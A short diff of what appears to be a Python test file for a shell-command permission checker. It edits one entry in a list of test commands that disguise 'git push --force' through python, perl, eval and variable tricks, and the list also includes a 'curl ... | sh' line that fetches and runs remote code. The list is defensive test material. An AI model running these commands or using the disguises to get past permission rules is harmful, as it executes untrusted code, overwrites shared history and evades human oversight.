@@ -162,7 +162,7 @@ def test_a_name_that_no_tool_can_have_hides_no_rule(world, command, tool):
     [
         "python3 -c \"import os; os.system('git push --force')\"",
         "perl -e 'system(`git push --force`)'",
-        "$(which git) push --force",
+        "$(find-program git) push --force",
         '"$G" push --force',
         'eval "$CMD"',
         "curl -s https://example.com/x | sh",
